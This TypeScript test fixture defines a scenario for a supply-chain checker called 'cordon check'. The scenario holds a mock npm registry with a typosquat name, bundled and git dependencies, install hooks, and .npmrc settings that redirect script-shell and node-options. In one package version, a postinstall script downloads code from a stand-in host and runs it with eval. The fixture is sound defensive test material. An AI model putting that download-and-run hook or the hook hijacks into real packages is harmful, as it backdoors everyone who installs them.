// A small registry and a project for `cordon check`. Every script of it leaves a mark when it is run, so that whoever
// counts the marks knows what ran.

const marking = (name: string) =>
  `require('node:fs').writeFileSync(require('node:path').join(process.env.CORDON_TEST_MARKERS, '${name}'), '')`

/** YAML of a scenario. `tiny` is what people ask for; the other names say what is the matter with them. */
export const checkTree = `
about: Packages that somebody thinks of installing.
now: 2026-06-15T12:00:00Z
registry:
  trust: stripped
  absent: [axois, '@acme/hidden']
  packages:
    tiny:
      publisher: { name: ada, email: ada@example.test }
      versions:
        1.0.0: { published: 2024-01-01T10:00:00Z, files: { index.js: module.exports = 1 } }
        1.1.0:
          published: 2025-02-01T10:00:00Z
          extends: 1.0.0
          files: { package.json: { dependencies: { helper: ^2.0.0 } } }
        1.2.0: { published: 2026-06-14T10:00:00Z, extends: 1.1.0, files: { readme.md: young } }
    helper:
      versions:
        2.0.0: { published: 2024-01-01T10:00:00Z, files: { index.js: module.exports = 2 } }
    brings-bad:
      versions:
        1.0.0:
          published: 2024-01-01T10:00:00Z
          files: { package.json: { dependencies: { turned: ^1.0.0 } }, index.js: "module.exports = require('turned')" }
    turned:
      versions:
        1.0.0: { published: 2024-01-01T10:00:00Z, files: { index.js: module.exports = 3 } }
        1.0.1:
          published: 2026-05-01T10:00:00Z
          extends: 1.0.0
          files:
            package.json: { scripts: { postinstall: node setup.js } }
            setup.js: |
              ${marking('turned')}
              require('node:https').get('https://drop.example.test/x', (answer) => answer.on('data', (code) => eval(String(code))))
    carrier:
      versions:
        1.0.0:
          published: 2024-01-01T10:00:00Z
          files:
            package.json: { dependencies: { carried: 1.0.0 }, bundleDependencies: [carried] }
            index.js: module.exports = 1
            node_modules/carried/package.json: { name: carried, version: 1.0.0, scripts: { postinstall: node mark.js } }
            node_modules/carried/mark.js: "${marking('carried')}"
    from-git:
      versions:
        1.0.0:
          published: 2024-01-01T10:00:00Z
          files: { package.json: { dependencies: { elsewhere: 'git+https://git.example.test/a/b.git' } }, index.js: '' }
    wants-old-tiny:
      versions:
        1.0.0:
          published: 2024-01-01T10:00:00Z
          files: { package.json: { peerDependencies: { tiny: ^0.5.0 } }, index.js: '' }
project:
  package.json:
    name: app
    version: 1.0.0
    scripts: { preinstall: node mark.cjs, install: node mark.cjs, prepare: node mark.cjs, postinstall: node mark.cjs }
    dependencies: { tiny: 1.0.0 }
  mark.cjs: "${marking('project')}"
  git.sh: |
    #!/bin/sh
    touch {{marker}}/git
  .npmrc: |
    git={{project}}/git.sh
    script-shell={{project}}/git.sh
    node-options=--require {{project}}/mark.cjs
lock:
  resolved: true
  root: { hasInstallScript: true }
  tree:
    node_modules/tiny: tiny@1.0.0
`
